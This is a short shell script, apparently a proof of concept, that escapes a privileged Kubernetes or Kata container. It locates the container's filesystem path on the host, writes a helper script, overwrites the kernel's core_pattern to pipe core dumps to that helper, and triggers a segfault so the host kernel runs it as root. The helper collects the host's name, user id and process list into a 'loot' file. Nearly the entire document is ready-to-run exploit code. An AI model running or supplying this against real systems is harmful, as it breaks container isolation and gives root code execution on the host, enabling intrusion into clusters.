# For a privileged container: kubectl exec -i POD -- sh -s < escape.sh
# Has the kernel run a program of the container's, as root and outside of it: core(5), "Piping core dumps to a program".

# The program needs a path that is good where the kernel starts it. The container's own mounts tell.
root=$(sed -n 's|^overlay / .*upperdir=\([^,]*\).*|\1|p' /proc/mounts)
if [ -z "$root" ]; then
  # Not an overlay: a machine of Kata's has its share here, and this container's root is a directory of it.
  root=/run/kata-containers/shared/containers$(sed -n 's|^[^ ]* [^ ]* [^ ]* \([^ ]*\) / .*|\1|p' /proc/self/mountinfo)
fi
echo "the kernel finds this container's files in $root"

# It is there before anybody looks for it, so that all see the same file.
: > /loot
cat > /cmd <<EOF
#!/bin/sh
PATH=/usr/sbin:/usr/bin:/sbin:/bin
exec > $root/loot 2>&1
echo "host name: \$(hostname)"
echo "user id: \$(id -u)"
ps -e -o pid,args
echo "that is all"
EOF
chmod +x /cmd

echo "|$root/cmd" > /proc/sys/kernel/core_pattern || exit 1
sh -c 'kill -SEGV $$'

tries=30
until grep -q '^that is all' /loot; do
  tries=$((tries - 1))
  [ $tries -gt 0 ] || { echo "nobody came"; exit 1; }
  sleep 1
done
cat /loot
